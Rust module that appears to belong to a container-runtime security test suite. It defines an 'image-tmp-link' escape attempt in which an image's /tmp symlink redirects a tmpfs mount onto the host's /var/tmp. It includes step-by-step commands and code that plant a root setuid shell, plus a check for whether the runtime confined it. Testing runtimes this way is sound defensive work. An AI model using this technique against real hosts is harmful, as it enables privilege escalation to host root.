//! image-tmp-link: come in an image whose `tmp` is a link to another directory.

use super::{Attempt, Measured, Need};
use crate::attacker::Failed;
use crate::attacker::paths::CHMODS;
use crate::host::Opened;
use crate::refusals::Refusal;
use crate::{Attacker, Host, Seen};
use nix::libc;

/// The attempt.
pub const ATTEMPT: Attempt = Attempt {
    id: "image-tmp-link",
    stake: "What the container's own file systems are for: here root on the host, for any user of it.",
    story: "The root file system has a link to /var/tmp in the place of its directory /tmp, as many an honest image \
            has. Where mount(2) follows it while the host's tree is in sight, the tmpfs lands on the /var/tmp of \
            the host's tree, which the container never sees. Inside /tmp is a directory of the image, on the host's \
            disk, and nobody is told. What /tmp on a tmpfs prevents is back: a set-user-ID file of root's that is \
            left there is found on the host. Were the link /proc, the masks would be gone. The host looks through \
            its own file tree.",
    by_hand: &[
        "mv rootfs/tmp rootfs/old; mkdir -p -m 1777 rootfs/var/tmp; ln -s /var/tmp rootfs/tmp    # on the host",
        "cp /bin/sh /tmp/sh; chmod 4755 /tmp/sh; ls -l /tmp/sh",
    ],
    stopped_by: &["lab2-mounts/no-links", "lab2-mounts/tmp"],
    after: &[],
    man: &["openat2(2)", "symlink(7)", "mount(2)"],
    letters: Measured { root: "E EEBBBBB", user: "E EEBBBBB", rootless: "E EEBBBBB" },
    needs: &[Need::FreshHost, Need::SetuidFiles, Need::ImageLink { name: "tmp", to: "/var/tmp" }],
    decisive: CHMODS,
    attack,
    class: Refusal::Permission,
    witness,
};

fn attack(me: &mut Attacker) -> Result<(), Failed> {
    let path = format!("/tmp/{}", me.mark());
    let file =
        me.open(&path, libc::O_WRONLY | libc::O_CREAT | libc::O_EXCL).map_err(Failed::in_preparation)?;
    me.set_setuid(file, &path)
}

fn witness(host: &Host) -> Seen {
    if let Some(file) = host.setuid_files.iter().find(|file| file.ends_with(&host.mark)) {
        let directory = file.trim_end_matches(&host.mark);
        return Seen::Effect(format!("a set-user-ID file of root's lies in {directory} of the host"));
    }
    if host.opened.iter().any(|file| host.is_setuid_here(file)) {
        return Seen::Effect(
            "a set-user-ID file of root's lies on a file system that the host has mounted".into(),
        );
    }
    // A file that lies on no file system of the attacker's says nothing of the next one.
    let is_its_own =
        |file: &Opened| file.uid != host.root_uid || host.attacker_has_mounted(&file.file_system());
    let confines = host.shares("mnt") == Some(false) || host.opened.iter().all(is_its_own);
    if host.call_succeeded() && confines {
        return Seen::Confined(
            "the file was made, and the host's own file tree has no such file of root's".into(),
        );
    }
    Seen::Nothing
}
